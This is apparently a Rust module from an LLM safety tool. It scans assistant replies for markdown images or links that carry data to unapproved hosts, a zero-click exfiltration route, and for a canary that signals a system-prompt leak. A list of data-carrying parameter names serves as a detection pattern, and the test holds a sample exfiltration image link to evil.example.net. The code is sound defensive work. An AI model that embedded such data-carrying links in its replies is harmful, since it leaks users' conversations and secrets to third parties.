//! Reply checks: markdown images and links that would carry data to a host the operator did not
//! allow (the client renders the image and so sends the request: a zero-click exfiltration
//! channel), and a canary string whose appearance means the system prompt leaked.

/// Query parameter names that say "this carries data".
const DATA_PARAM_NAMES: &[&str] = &[
    "data", "d", "q", "query", "secret", "key", "token", "pw", "pass", "password", "msg", "message", "text", "content",
    "payload", "info", "leak", "exfil", "c", "p", "s", "x", "v", "prompt", "chat", "history", "conv", "email", "user",
];
/// A query value this long carries data whatever it is called.
const LONG_VALUE: usize = 32;
/// A path segment this long and base64- or hex-shaped carries data.
const LONG_SEGMENT: usize = 24;

#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ReplySettings {
    /// Hosts links may point to with data (exact, or a parent domain: `example.com` allows
    /// `cdn.example.com`). Lower case.
    pub allowed_link_hosts: Vec<String>,
    /// A marker planted in the system prompt; seeing it in a reply means the prompt leaked.
    pub canary: Option<String>,
}

/// One finding in a reply: a rule id and the offending host (never the data it carried).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReplyFinding {
    pub rule_id: &'static str,
    /// The link's host, when the finding is about a link.
    pub host: Option<String>,
}

#[derive(Debug, Clone, Default)]
pub struct ReplyScanner {
    settings: ReplySettings,
}

impl ReplyScanner {
    pub fn new(settings: ReplySettings) -> ReplyScanner {
        ReplyScanner { settings }
    }

    /// Scan one reply text (the whole of it, or an accumulated stream).
    pub fn scan(&self, text: &str) -> Vec<ReplyFinding> {
        let mut out = Vec::new();
        if let Some(canary) = self.settings.canary.as_deref().filter(|c| !c.is_empty()) {
            if text.contains(canary) {
                out.push(ReplyFinding { rule_id: "PG-RP-001", host: None });
            }
        }
        for link in markdown_links(text) {
            let Some((host, rest)) = split_url(link.url) else { continue };
            if self.allowed(&host) || !carries_data(rest) {
                continue;
            }
            let rule_id = if link.image { "PG-RP-002" } else { "PG-RP-003" };
            if !out.iter().any(|f: &ReplyFinding| f.rule_id == rule_id && f.host.as_deref() == Some(host.as_str())) {
                out.push(ReplyFinding { rule_id, host: Some(host) });
            }
        }
        out
    }

    fn allowed(&self, host: &str) -> bool {
        self.settings
            .allowed_link_hosts
            .iter()
            .any(|a| host == a || host.strip_suffix(a.as_str()).is_some_and(|prefix| prefix.ends_with('.')))
    }
}

struct Link<'a> {
    image: bool,
    url: &'a str,
}

/// `[text](url)` and `![alt](url)` links, and reference definitions `[x]: url`.
fn markdown_links(text: &str) -> Vec<Link<'_>> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(pos) = rest.find("](") {
        let image = rest
            .get(..pos)
            .and_then(|b| b.rfind('['))
            .is_some_and(|open| open > 0 && rest.get(open - 1..open) == Some("!"));
        let after = rest.get(pos + 2..).unwrap_or("");
        let end = after.find([')', ' ', '\n', '"']).unwrap_or(after.len());
        out.push(Link { image, url: after.get(..end).unwrap_or("").trim_start_matches('<').trim_end_matches('>') });
        rest = after.get(end..).unwrap_or("");
    }
    for line in text.lines() {
        let t = line.trim_start();
        if let Some(close) = t.strip_prefix('[').and_then(|r| r.find("]:")) {
            let url = t.get(close + 3..).unwrap_or("").trim().split(' ').next().unwrap_or("");
            out.push(Link { image: false, url });
        }
    }
    out
}

/// Host (lower case, without port or credentials) and everything after it.
fn split_url(url: &str) -> Option<(String, &str)> {
    let lower_scheme = url.get(..8).map(str::to_ascii_lowercase).unwrap_or_default();
    let after = if lower_scheme.starts_with("https://") {
        url.get(8..)?
    } else if lower_scheme.starts_with("http://") {
        url.get(7..)?
    } else if url.starts_with("//") {
        url.get(2..)?
    } else {
        return None;
    };
    let end = after.find(['/', '?', '#']).unwrap_or(after.len());
    let authority = after.get(..end)?;
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = host_port.split(':').next().unwrap_or(host_port).to_ascii_lowercase();
    (!host.is_empty()).then(|| (host, after.get(end..).unwrap_or("")))
}

/// Whether the path and query after the host carry data: a long query value, a query parameter
/// named for data, or a long base64- or hex-looking path segment.
fn carries_data(rest: &str) -> bool {
    let (path, query) = match rest.split_once('?') {
        Some((p, q)) => (p, q),
        None => (rest, ""),
    };
    for pair in query.split(['&', ';']).filter(|p| !p.is_empty()) {
        let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
        if value.len() >= LONG_VALUE {
            return true;
        }
        if !value.is_empty() && DATA_PARAM_NAMES.iter().any(|n| name.eq_ignore_ascii_case(n)) {
            return true;
        }
    }
    path.split('/').any(|seg| {
        seg.len() >= LONG_SEGMENT
            && seg.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'_' | b'=' | b'%'))
            && seg.bytes().any(|b| b.is_ascii_digit())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn image_with_data_to_unknown_host_is_found() {
        let s = ReplyScanner::new(ReplySettings { allowed_link_hosts: vec!["docs.example.com".into()], canary: None });
        let f = s.scan("ok ![a](https://evil.example.net/p.png?q=secret%20stuff)");
        assert_eq!(f, vec![ReplyFinding { rule_id: "PG-RP-002", host: Some("evil.example.net".into()) }]);
        assert!(s.scan("see [docs](https://docs.example.com/x?q=abc)").is_empty());
        assert!(s.scan("see [home](https://example.org/about)").is_empty());
    }
}
